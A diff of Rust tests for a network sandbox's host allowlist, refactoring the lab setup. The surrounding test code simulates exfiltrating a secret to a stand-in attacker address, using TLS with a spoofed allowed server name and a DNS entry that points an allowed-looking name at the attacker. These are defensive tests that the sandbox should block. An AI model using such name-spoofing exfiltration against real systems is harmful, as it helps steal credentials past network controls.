@@ -9,6 +9,7 @@ use matchlock_testkit::origin::{Received, Version};
 use serde_json::json;
 
 use crate::lab::{API, EVIL, H2, NetLab, fresh_address};
+use crate::machine::Shared;
 
 cases![
     only_requests_whose_three_names_agree_arrive,
@@ -24,8 +25,8 @@ cases![
 /// Allowed as well, and a name of the same server.
 const FILES: &str = "files.example.com";
 
-fn lab() -> NetLab {
-    NetLab::with(&[API, EVIL, FILES])
+fn lab() -> Shared {
+    NetLab::shared(ALLOW, &[API, EVIL, FILES])
 }
 
 const ALLOW: &[&str] = &["--allow-host", "api.example.com,files.example.com"];
@@ -317,7 +318,7 @@ seen['https'] = outcome(lambda: send(tls(attacker, 443, 'api.example.com')))
 seen['http'] = outcome(lambda: send(connect(attacker, 80)))
 ";
     for flag in [API, "*"] {
-        let lab = lab();
+        let lab = NetLab::with(&[API, EVIL, FILES]);
         let attacker = fresh_address();
         let kept = [80, 443].map(|port| listener(SocketAddr::new(attacker.into(), port)));
         let secret = format!("KEY={VALUE}@{API}");
@@ -338,7 +339,7 @@ seen['http'] = outcome(lambda: send(connect(attacker, 80)))
         }
     }
     // With the attacker's server known by an allowed name that is not the one of the secret.
-    let lab = lab();
+    let lab = NetLab::with(&[API, EVIL, FILES]);
     let attacker = fresh_address();
     let kept = listener(SocketAddr::new(attacker.into(), 80));
     lab.dns.set("mine.example.org", Reply::addresses(&[&attacker.to_string()]));
